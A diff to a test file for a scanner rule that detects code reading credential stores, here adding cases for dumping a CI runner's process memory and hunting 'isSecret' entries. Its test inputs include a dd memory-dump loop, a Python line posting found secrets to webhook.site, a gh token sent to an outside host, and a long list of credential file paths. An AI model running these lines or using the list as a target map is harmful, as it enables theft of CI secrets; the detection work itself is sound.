@@ -67,6 +67,21 @@ describe('credential-store-read', () => {
   });
 });
 
+describe("credential-store-read: another process's memory (the runner's secrets)", () => {
+  it('is high without a send when added code reads /proc/<pid>/mem or searches for the runner\'s "isSecret":true entries (shell, Node, Python)', () => {
+    expect(at('entrypoint.sh', ['for pid in $(pgrep -f Runner.Worker); do', '  sudo dd if="/proc/$pid/mem" bs=1M 2>/dev/null | strings | base64 -w0', 'done'])).toMatchObject({ severity: 'high', line: 3 });
+    expect(at('dist/index.js', ["const mem = fs.readFileSync('/proc/' + pid + '/mem');"])?.title).toBe("Another process's memory read (where a CI runner keeps its secrets)");
+    expect(at('tools/diag.py', ['with open(f"/proc/{pid}/mem", "rb") as m:'])).toMatchObject({ severity: 'high' });
+    expect(at('src/scan.js', ['const found = text.match(/"isSecret":true/g);'])).toMatchObject({ severity: 'high' });
+    expect(at('src/scan.py', ['hits = re.findall(rb\'"isSecret":true\', data)', 'requests.post("https://webhook.site/3f2a", data=b"".join(hits))'])).toMatchObject({ severity: 'critical' });
+  });
+  it("is quiet on memory statistics, a process's status or maps file, the runner's own C# source, and a variable named mem", () => {
+    expect(at('src/stats.py', ['total = open("/proc/meminfo").read()', 'status = open(f"/proc/{pid}/status").read()', 'maps = open(f"/proc/{pid}/maps").read()'])).toBeUndefined();
+    expect(at('src/Runner.Worker/JobRunner.cs', ['var variable = new VariableValue(value, isSecret: true);', 'if (variable.IsSecret == true) { HostContext.SecretMasker.AddValue(value); }'])).toBeUndefined();
+    expect(at('src/cache.js', ['const mem = new Map(); // /mem cache'])).toBeUndefined();
+  });
+});
+
 describe('credential-store-read: commands that print a stored credential', () => {
   it('reports gh auth token (and gcloud, az, git credential fill) sent to a host of another service, as the s1ngularity payload did', () => {
     expect(at('src/telemetry.js', ["const token = execSync('gh auth token').toString().trim();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: JSON.stringify({ token }) });"])).toMatchObject({ severity: 'high', line: 2 });
@@ -106,7 +121,7 @@ describe('credential-store-read across files', () => {
 
 describe('credential-store-read: the line hint', () => {
   it('lets through every store the patterns know (a store the hint missed would never be read)', async () => {
-    const samples = ['~/.ssh/id_rsa', '~/.ssh/authorized_keys', '.aws/credentials', '~/.npmrc', '~/.pypirc', '~/.netrc', '~/.git-credentials', '.docker/config.json', '.kube/config', '~/.gnupg', '.cargo/credentials', '.gem/credentials', 'gh/hosts.yml', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', '/etc/shadow', '.bash_history', 'Login Data', 'wallet.dat', '.electrum', 'Exodus/exodus.wallet', 'Ethereum/keystore', 'solana/id.json', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/proc/self/environ', 'gh auth token', 'gcloud auth print-access-token', 'az account get-access-token', 'git credential fill'];
+    const samples = ['~/.ssh/id_rsa', '~/.ssh/authorized_keys', '.aws/credentials', '~/.npmrc', '~/.pypirc', '~/.netrc', '~/.git-credentials', '.docker/config.json', '.kube/config', '~/.gnupg', '.cargo/credentials', '.gem/credentials', 'gh/hosts.yml', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', '/etc/shadow', '.bash_history', 'Login Data', 'wallet.dat', '.electrum', 'Exodus/exodus.wallet', 'Ethereum/keystore', 'solana/id.json', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/proc/self/environ', '/proc/1234/mem', '{\\"isSecret\\":true}', 'gh auth token', 'gcloud auth print-access-token', 'az account get-access-token', 'git credential fill'];
     for (const sample of samples) {
       const line = `const p = read("${sample}");`;
       expect(credentialStoresOn(line), sample).not.toEqual([]);
